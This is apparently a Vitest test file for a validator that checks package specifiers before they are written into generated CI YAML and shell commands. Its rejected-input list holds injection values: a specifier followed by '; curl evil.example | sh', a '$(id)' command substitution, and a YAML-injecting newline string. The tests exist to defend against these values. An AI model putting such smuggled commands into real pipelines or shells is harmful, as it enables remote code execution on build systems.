/**
 * --validator: where the generated CI and README get `haven-plus validate` (npx --package). It is written
 * into YAML and shell, so only a package at an exact version, an https:// tarball or a git URL with a ref
 * are taken, of a narrow set of characters.
 */
import { describe, expect, it } from 'vitest';
import { checkValidator } from '../../lib/names.js';

describe('checkValidator', () => {
  it.each([
    'generator-haven-plus@0.1.0',
    '@gemeente/generator-haven-plus@0.1.0-rc.1',
    'https://artifacts.example.nl/npm/generator-haven-plus-0.1.0.tgz',
    'https://gitlab.example.nl:8443/api/v4/projects/12/packages/generic/hp/0.1.0/generator-haven-plus-0.1.0.tgz',
    'git+https://gitlab.example.nl/tools/generator-haven-plus.git#v0.1.0',
    'git+ssh://git@gitlab.example.nl/tools/generator-haven-plus.git#3f9c2e1',
  ])('takes %s', (v) => expect(checkValidator(v)).toBeUndefined());

  it.each([
    ['generator-haven-plus', /does not pin an exact version/],
    ['generator-haven-plus@latest', /does not pin an exact version/],
    ['generator-haven-plus@^0.1.0', /does not pin an exact version/],
    ['git+https://gitlab.example.nl/tools/generator-haven-plus.git', /does not name a tag or commit/],
    ['https://user:token@artifacts.example.nl/a/generator-haven-plus-0.1.0.tgz', /holds credentials/],
    ['http://artifacts.example.nl/generator-haven-plus-0.1.0.tgz', /is not a package at an exact version/],
    ['file:../generator-haven-plus-0.1.0.tgz', /is not a package/],
    ['generator-haven-plus@0.1.0; curl evil.example | sh', /is not a package/],
    ['https://x.nl/$(id).tgz', /is not a package/],
    ['https://x.nl/a b.tgz', /is not a package/],
    ['git+https://x.nl/a.git#v1"\n  evil: true', /is not a package|does not name/],
  ])('refuses %j', (v, reason) => expect(checkValidator(v)).toMatch(reason));
});
